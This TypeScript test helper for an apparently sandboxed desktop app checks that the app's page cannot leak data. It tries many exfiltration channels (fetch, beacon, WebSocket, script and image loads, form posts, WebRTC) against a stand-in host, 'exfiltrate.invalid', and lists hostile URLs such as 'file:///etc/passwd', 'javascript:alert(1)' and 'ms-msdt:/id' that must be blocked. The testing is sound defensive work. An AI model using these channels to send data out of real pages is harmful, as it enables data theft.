import { createSocket } from 'node:dgram'
import type { StandInRun } from '../../e2e/stand-in/drive.ts'

/** Everything that a page can try in order to reach another machine by web protocols; gives back what left it. */
export async function phoneHome(run: StandInRun): Promise<readonly string[]> {
  const before = run.requests.length
  const answered = await run.page.evaluate(async () => {
    const away = 'https://exfiltrate.invalid'
    const reached: string[] = []
    const outcome = (name: string, start: (done: (got: boolean) => void) => void) =>
      new Promise<void>((resolve) => {
        const done = (got: boolean) => {
          if (got) reached.push(name)
          resolve()
        }
        try {
          start(done)
        } catch {
          done(false)
        }
      })
    const element = (name: string, tag: string, set: Record<string, string>) =>
      outcome(name, (done) => {
        const made = document.createElement(tag)
        // A frame that was refused loads an error page.
        made.addEventListener('load', () => done(tag !== 'iframe'))
        made.addEventListener('error', () => done(false))
        for (const [key, value] of Object.entries(set)) made.setAttribute(key, value)
        document.head.append(made)
        // Hints tell nobody how they ended.
        setTimeout(() => done(false), 200)
      })
    await Promise.all([
      outcome('fetch', (done) =>
        fetch(`${away}/fetch`).then(
          () => done(true),
          () => done(false),
        ),
      ),
      outcome('fetch no-cors', (done) =>
        fetch(`${away}/no-cors`, { method: 'POST', mode: 'no-cors', body: 'x' }).then(
          () => done(true),
          () => done(false),
        ),
      ),
      outcome('beacon', (done) => {
        navigator.sendBeacon(`${away}/beacon`, 'x')
        done(false)
      }),
      outcome('XMLHttpRequest', (done) => {
        const request = new XMLHttpRequest()
        request.addEventListener('load', () => done(true))
        request.addEventListener('error', () => done(false))
        request.open('GET', `${away}/xhr`)
        request.send()
      }),
      outcome('WebSocket', (done) => {
        const socket = new WebSocket('wss://exfiltrate.invalid/socket')
        socket.addEventListener('open', () => done(true))
        socket.addEventListener('error', () => done(false))
        socket.addEventListener('close', () => done(false))
      }),
      outcome('EventSource', (done) => {
        const source = new EventSource(`${away}/events`)
        source.addEventListener('open', () => done(true))
        source.addEventListener('error', () => done(false))
      }),
      outcome('worker', (done) => {
        const worker = new Worker(`${away}/worker.js`)
        worker.addEventListener('error', () => done(false))
        worker.addEventListener('message', () => done(true))
      }),
      outcome('import', (done) =>
        import(/* @vite-ignore */ `${away}/module.js`).then(
          () => done(true),
          () => done(false),
        ),
      ),
      element('image', 'img', { src: `${away}/image.png` }),
      element('script', 'script', { src: `${away}/script.js` }),
      element('style sheet', 'link', { rel: 'stylesheet', href: `${away}/style.css` }),
      element('prefetch', 'link', { rel: 'prefetch', href: `${away}/prefetch` }),
      element('preload', 'link', { rel: 'preload', as: 'image', href: `${away}/preload.png` }),
      element('preconnect', 'link', { rel: 'preconnect', href: `${away}` }),
      element('icon', 'link', { rel: 'icon', href: `${away}/icon.png` }),
      element('frame', 'iframe', { src: `${away}/frame` }),
      element('object', 'object', { data: `${away}/object` }),
      element('video', 'video', { src: `${away}/video.mp4` }),
      outcome('form', (done) => {
        const frame = document.createElement('iframe')
        frame.name = 'sink'
        const form = document.createElement('form')
        form.action = `${away}/form`
        form.method = 'post'
        form.target = 'sink'
        document.body.append(frame, form)
        form.submit()
        setTimeout(() => done(false), 200)
      }),
      outcome('background image', (done) => {
        document.body.style.backgroundImage = `url(${away}/background.png)`
        setTimeout(() => done(false), 200)
      }),
    ])
    return reached
  })
  const left = run.requests.slice(before).filter(({ url }) => !/^(app:\/\/proofbook\/|blob:|data:)/.test(url))
  return [...answered.map((name) => `${name} was answered`), ...left.map(({ url }) => `left the page: ${url}`)]
}

/** WebRTC knows nothing of a page's policy: does a packet reach a listener on this very machine? */
export async function phoneHomeByWebRtc(run: StandInRun): Promise<readonly string[]> {
  const listener = createSocket('udp4')
  const packets: string[] = []
  listener.on('message', (_data, { address }) => packets.push(`a packet from ${address}`))
  await new Promise<void>((resolve) => listener.bind(0, '127.0.0.1', resolve))
  const { port } = listener.address()
  await run.page.evaluate(async (to) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${to}` }] })
    connection.createDataChannel('x')
    await connection.setLocalDescription(await connection.createOffer())
    await new Promise<void>((resolve) => {
      const look = () => connection.iceGatheringState === 'complete' && resolve()
      connection.addEventListener('icegatheringstatechange', look)
      look()
      setTimeout(resolve, 3000)
    })
    connection.close()
  }, port)
  await new Promise<void>((resolve) => listener.close(() => resolve()))
  return packets
}

/** Addresses of every kind that is not the page's own, put to the session as Chromium would. */
export const foreignUrls: readonly string[] = [
  'http://example.invalid/',
  'https://example.invalid/',
  'HTTPS://EXAMPLE.INVALID/',
  'https://127.0.0.1/',
  'http://localhost:8080/',
  'http://[::1]/',
  'https://proofbook/',
  'https://proofbook.example.invalid/',
  'https://app//proofbook/',
  'ws://example.invalid/',
  'wss://example.invalid/',
  'ftp://example.invalid/',
  'file:///etc/passwd',
  'file://server/share/file',
  'app://other/',
  'app://proofbook.example.invalid/',
  'app://proofbook:8080/',
  'chrome://gpu/',
  'chrome-extension://abcdefghijklmnopabcdefghijklmnop/x.js',
  'view-source:https://example.invalid/',
  'filesystem:https://example.invalid/temporary/x',
  'javascript:alert(1)',
  'about:blank',
  'about:srcdoc',
  'mailto:a@example.invalid',
  'ms-msdt:/id',
  'smb://server/share',
  'intent://example.invalid/',
  'gopher://example.invalid/',
  'blob-not:x',
]

/** What the session lets through of what is none of the page's business, and what it keeps from the page itself. */
export async function passSession(run: StandInRun, isPackaged: boolean): Promise<readonly string[]> {
  const ask = async (url: string) =>
    (await run.call<{ kind: string }>('request', run.windowId, { url, method: 'GET', resourceType: 'xhr' })).kind
  const urls = isPackaged ? [...foreignUrls, 'devtools://devtools/bundled/inspector.html'] : foreignUrls
  const breaches: string[] = []
  for (const url of urls) {
    const kind = await ask(url)
    if (kind !== 'cancelled') breaches.push(`${url}: ${kind}`)
  }
  if ((await ask('app://proofbook/')) !== 'answered') breaches.push('the page itself is not served')
  return breaches
}
